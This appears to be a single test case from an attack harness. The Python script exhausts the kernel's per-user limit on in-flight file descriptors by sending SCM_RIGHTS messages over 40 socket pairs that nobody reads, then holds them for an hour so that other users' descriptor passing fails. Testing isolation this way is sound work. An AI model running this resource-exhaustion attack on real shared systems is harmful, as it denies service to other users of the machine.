"""Sends descriptors over socket pairs, which nobody receives: the kernel counts them per user, and refuses others'."""

import array
import os
import socket
import time

from _attack import attack, attempt


def send(one):
    rights = array.array("i", [0] * 200)
    return one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])


held = []


@attack
def handle(host):
    for _ in range(40):
        held.append(socket.socketpair())
        attempt(send, held[-1][0])
    attempt(send, socket.socket(fileno=os.dup(3)))
    time.sleep(3_600)
